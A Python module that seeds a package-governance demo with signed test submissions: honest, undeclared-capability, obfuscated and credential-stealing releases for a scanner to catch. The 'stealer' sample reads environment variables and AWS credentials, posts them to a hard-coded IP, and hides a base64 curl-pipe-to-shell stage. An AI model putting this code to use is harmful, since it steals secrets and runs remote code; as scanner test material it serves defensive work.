"""Package submissions for the demo: new versions of catalog packages, signed and published through the
intake API's own publishing path, waiting for governance.

Without them the demo's review console and governance charts would be empty. Each submission is a real
``.wpk`` built here, signed with a key registered for its publisher (DESIGN 3.5) and handed to
:func:`ingest.api.publishing.publish`, so it passes every check an upload passes and lands in the artifact
store as ``pending_scan``; the scanner (the orchestrator's sensor, or ``atom demo`` directly) decides.
Four kinds of release cover the scanner's outcomes: an honest one, one that uses capabilities its manifest
does not declare, one with an obfuscated payload, and a corroborated credential-stealing attack.
Submission times spread over the last week so that some reviews are past due.
"""

from __future__ import annotations

import io
import zipfile
from dataclasses import dataclass
from datetime import datetime, timedelta
from pathlib import Path

import numpy as np
from sqlalchemy import select
from sqlalchemy.orm import Session

from atom.opdb import Package, PackageVersion, PublisherKey
from atom.opdb.registry import utcnow
from governance.archive import ArchiveLimits
from governance.manifest import SEMVER_RE
from governance.signatures import generate_keypair, sign
from ingest.api.publishing import publish

SUBMITTED_BY = "demo-generator"  # stands where an API key id would for an upload through the API

MANIFEST = """[package]
name = "{name}"
version = "{version}"
publisher = "{publisher}"
description = "{description}"
license = "Apache-2.0"
[workflow]
entrypoint = "workflow.yaml"
[permissions]
network = ["slack.com"]
secrets = ["SLACK_TOKEN"]
filesystem = "scratch"
subprocess = false
[data]
pii_fields = []
[budget]
max_runtime_s = 120
max_memory_mb = 256
[observability]
health_check = true
"""

WORKFLOW = """name: {name}
steps:
  - id: notify
    run: steps/notify.py:run
"""


def _step(doc: str, imports: list[str], prelude: str, body: str) -> str:
    """A step module: what differs between the kinds of release, around the Slack post they all make."""
    header = "\n".join(sorted({"import json", "import logging", *imports}, key=lambda line: line.split()[1]))
    return f'''"""{doc}"""

{header}

import requests

log = logging.getLogger(__name__)
{prelude}

def run(ctx: dict) -> dict:
{body}    response = requests.post(
        "https://slack.com/api/chat.postMessage",
        json={{"text": ctx["summary"]}},
        headers={{"Authorization": "Bearer " + ctx["secrets"]["SLACK_TOKEN"]}},
        timeout=10,
    )
    log.info(json.dumps({{"event": "notified", "status": response.status_code}}))
    return {{"status": response.status_code}}


def health_check() -> bool:
    """The platform calls this before routing runs to the package."""
    return True
'''


HONEST = _step("Post the workflow's summary to the team's Slack channel.", [], "", "")
UNDECLARED = _step(
    "Post the summary, and report the repository state to an analytics service.",
    ["import subprocess"],
    "",
    """    revision = subprocess.run(["git", "rev-parse", "HEAD"], capture_output=True, text=True).stdout
    requests.post("https://collector.metrics-partner.io/v1/track", json={"revision": revision}, timeout=5)
""",
)
OBFUSCATED = _step(
    "Post the summary; the formatter ships pre-compiled for speed.",
    ["import base64"],
    'FORMATTER = "ZGVmIGZvcm1hdF9zdW1tYXJ5KHRleHQpOgogICAgcmV0dXJuIHRleHQuc3RyaXAoKQo="\n',
    "    exec(base64.b64decode(FORMATTER))\n",
)
STEALER = _step(
    "Post the summary.",
    ["import base64", "import os", "from pathlib import Path"],
    'STAGE2 = "aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2N1cmwgLXMgaHR0cDovLzE4NS4yMjAuMTAxLjQ3L3ggfCBzaCcp"\n',
    """    loot = {"env": dict(os.environ), "aws": (Path.home() / ".aws" / "credentials").read_text()}
    requests.post("http://185.220.101.47:8080/collect", data=base64.b64encode(json.dumps(loot).encode()))
    exec(base64.b64decode(STAGE2))
""",
)

# kind -> (step code, share of the demo's submissions)
KINDS: dict[str, tuple[str, float]] = {
    "honest": (HONEST, 0.5),
    "undeclared": (UNDECLARED, 0.2),
    "obfuscated": (OBFUSCATED, 0.2),
    "stealer": (STEALER, 0.1),
}
_ZIP_TIME = (2026, 1, 1, 0, 0, 0)  # fixed member times: the same files give the same archive bytes


@dataclass(frozen=True)
class DemoSubmission:
    submission_id: str
    package_name: str
    version: str
    kind: str


def build_wpk(files: dict[str, str]) -> bytes:
    """A reproducible zip of ``files`` (path -> text), members in name order."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name in sorted(files):
            info = zipfile.ZipInfo(name, date_time=_ZIP_TIME)
            info.compress_type = zipfile.ZIP_DEFLATED
            archive.writestr(info, files[name])
    return buffer.getvalue()


def next_minor(versions: list[str]) -> str:
    """The minor release after the highest semantic version in ``versions`` (``1.4.2`` -> ``1.5.0``)."""
    released = [
        tuple(int(part) for part in v.split("-")[0].split(".")) for v in versions if SEMVER_RE.match(v)
    ]
    major, minor, _patch = max(released, default=(0, 0, 0))
    return f"{major}.{minor + 1}.0"


def seed_submissions(
    session: Session, artifacts_dir: Path, *, count: int, seed: int, now: datetime | None = None
) -> list[DemoSubmission]:
    """Publish ``count`` new versions of catalog packages (at most one per package), ``pending_scan``."""
    rng = np.random.default_rng(seed)
    now = now or utcnow()
    packages = list(session.scalars(select(Package).order_by(Package.id)))
    chosen = [packages[int(i)] for i in rng.permutation(len(packages))[: min(count, len(packages))]]
    kinds = list(KINDS)
    shares = np.array([share for _code, share in KINDS.values()])
    signing_keys: dict[str, bytes] = {}
    created = []
    for index, package in enumerate(chosen):
        # The first submissions take each kind once, so even a small demo shows every outcome.
        kind = kinds[index] if index < len(kinds) else kinds[int(rng.choice(len(kinds), p=shares))]
        if package.publisher_id not in signing_keys:
            signing_keys[package.publisher_id] = _register_key(session, package.publisher_id, now)
        versions = list(
            session.scalars(select(PackageVersion.version).where(PackageVersion.package_id == package.id))
        )
        version = next_minor(versions)
        data = build_wpk(
            {
                "wpk.toml": MANIFEST.format(
                    name=package.name,
                    version=version,
                    publisher=package.publisher_id,
                    description=(package.description or package.name).replace('"', "'"),
                ),
                "workflow.yaml": WORKFLOW.format(name=package.name),
                "steps/notify.py": KINDS[kind][0],
            }
        )
        published = publish(
            session,
            artifacts_dir,
            publisher_id=package.publisher_id,
            api_key_id=SUBMITTED_BY,
            data=data,
            signature=sign(data, signing_keys[package.publisher_id]),
            limits=ArchiveLimits(),
        )
        # Spread over the last week (working-day due dates then fall on both sides of today).
        published.submission.submitted_at = now - timedelta(hours=float(rng.uniform(1, 7 * 24)))
        created.append(DemoSubmission(published.submission.id, package.name, version, kind))
    session.flush()
    return created


def _register_key(session: Session, publisher_id: str, now: datetime) -> bytes:
    """A new signing key for the publisher, registered as the API's key endpoint would; the private half."""
    pair = generate_keypair("ed25519")
    session.add(
        PublisherKey(
            key_id=pair.key_id,
            publisher_id=publisher_id,
            public_key_pem=pair.public_key_pem.decode(),
            created_at=now,
        )
    )
    session.flush()
    return pair.private_key_pem
